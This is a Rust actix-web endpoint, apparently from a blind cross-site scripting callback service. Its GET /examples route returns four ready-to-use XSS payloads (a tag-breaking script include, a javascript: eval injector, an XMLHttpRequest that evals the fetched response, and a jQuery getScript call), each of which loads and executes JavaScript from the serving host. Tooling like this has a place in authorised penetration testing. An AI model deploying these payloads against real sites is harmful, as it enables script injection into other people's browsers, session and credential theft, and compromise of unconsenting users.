use actix_web::{HttpRequest, HttpResponse};

/// GET /examples
/// Payload trigger snippets pointing back at this host
pub async fn examples(req: HttpRequest) -> HttpResponse {
    let base_url = format!("https://{}", req.connection_info().host());

    HttpResponse::Ok()
        .content_type("text/plain; charset=utf-8")
        .body(example_payloads(&base_url))
}

/// Renders the trigger snippets for `base_url`
pub fn example_payloads(base_url: &str) -> String {
    [
        format!(r#"'"><script src="{base_url}"></script>"#),
        format!(
            r#"javascript:eval('var a=document.createElement(\'script\');a.src=\'{base_url}\';document.body.appendChild(a)');"#
        ),
        format!(
            r#"<script>function b() {{ eval(this.responseText); }}; a = new XMLHttpRequest(); a.addEventListener("load", b); a.open("GET", "{base_url}"); a.send();</script>"#
        ),
        format!(r#"<script>$.getScript("{base_url}");</script>"#),
    ]
    .join("\n\n")
}
